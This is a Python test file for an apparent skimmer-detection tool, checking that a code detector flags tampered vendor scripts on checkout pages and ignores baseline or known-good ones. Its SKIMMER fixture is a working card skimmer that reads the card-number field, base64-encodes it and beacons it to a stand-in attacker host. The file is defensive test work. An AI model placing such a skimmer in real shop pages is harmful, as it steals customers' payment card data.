"""Captured scripts through the static analysis engine (category ``code``, rules SG4xx)."""

from __future__ import annotations

import dataclasses

from skimguard.detect import code
from skimguard.detect.code import CodeDetector
from skimguard.models import Category, Finding, Severity, sha256_hex
from skimguard.testing.factories import VENDOR_JS, VENDOR_URL, make_capture, make_context, replace_script_body

SKIMMER = (
    VENDOR_JS + '\ndocument.addEventListener("blur", function () {\n'
    '  if (location.href.indexOf("checkout") > -1) {\n'
    '    var d = btoa(document.getElementById("cc_number").value);\n'
    '    new Image().src = "https://evil.example/gate.php?d=" + d;\n'
    "  }\n"
    "}, true);\n"
)
# A direct-post tokenizer: reads the card on submit and posts JSON to a configured URL.
TOKENIZER = """(function () {
  var url = (window.CHECKOUT || {}).tokenUrl || "https://pay.psp.test/v1/tokens";
  var form = document.getElementById("payment-form");
  form.addEventListener("submit", function (ev) {
    ev.preventDefault();
    var card = {number: form.elements.namedItem("card_number").value, cvc: form.elements.namedItem("card_cvc").value};
    fetch(url, {method: "POST", body: JSON.stringify(card)}).then(function () { form.submit(); });
  });
})();
"""


def run(current_body: str, *, baseline_body: str | None = None) -> list[Finding]:
    current = replace_script_body(make_capture(), VENDOR_URL, current_body)
    baseline = replace_script_body(make_capture(), VENDOR_URL, baseline_body) if baseline_body else make_capture()
    return list(CodeDetector().run(make_context(current, baseline=baseline)))


def test_a_tampered_vendor_script_gets_its_verdict_with_the_change() -> None:
    # ruleid: SG440 — the vendor script now reads the card and beacons it out on checkout
    findings = run(SKIMMER)
    sg440 = [f for f in findings if f.rule_id == "SG440"]
    assert [(f.category, f.severity, f.page, f.subject) for f in sg440] == [
        (Category.CODE, Severity.CRITICAL, "payment", "https://cdn.vendor.test/form-assist/v1/assist.js")
    ]
    assert sg440[0].evidence["verdict"] == "malicious" and sg440[0].evidence["sha256"] == sha256_hex(SKIMMER.encode())
    assert all(f.severity >= Severity.MEDIUM for f in findings)
    assert sg440[0].script_url == VENDOR_URL


def test_scripts_the_baseline_knows_are_not_analysed_again() -> None:
    # ok: SG440 — the same bytes were approved in the baseline
    assert run(SKIMMER, baseline_body=SKIMMER) == []
    # ok — the shop's unchanged scripts are clean
    assert list(CodeDetector().run(make_context(make_capture(), baseline=None))) == []


def test_known_good_hashes_skip_analysis() -> None:
    current = replace_script_body(make_capture(), VENDOR_URL, SKIMMER)
    ctx = dataclasses.replace(
        make_context(current, baseline=make_capture()), known_good=frozenset({sha256_hex(SKIMMER.encode())})
    )
    assert list(CodeDetector().run(ctx)) == []


# The same shape with the request deferred by a timer: SG440 high alone, a suspicious verdict.
DEFERRED = """(function () {
  var form = document.getElementById("payment-form");
  form.addEventListener("submit", function () {
    var card = {number: form.elements.namedItem("card_number").value, cvc: form.elements.namedItem("card_cvc").value};
    setTimeout(function () {
      fetch("https://pay.psp.test/v1/tokens", {method: "POST", body: JSON.stringify(card)});
    }, 10);
  });
})();
"""


def test_a_tokenizer_is_not_a_finding() -> None:
    # ok: SG440 — direct-post tokenizers are SG445 low, a clean verdict
    assert run(TOKENIZER) == []


def test_a_suspicious_verdict_is_capped_at_low() -> None:
    findings = run(DEFERRED)
    assert [f.rule_id for f in findings] == ["SG440"]  # the test must see a suspicious verdict
    assert all(f.severity <= Severity.LOW for f in findings)
    assert {f.evidence["verdict"] for f in findings} <= {"suspicious"}


def test_verdicts_are_cached_by_hash() -> None:
    code._cache.clear()
    run(SKIMMER)
    assert len(code._cache) == 1
    run(SKIMMER)
    assert len(code._cache) == 1
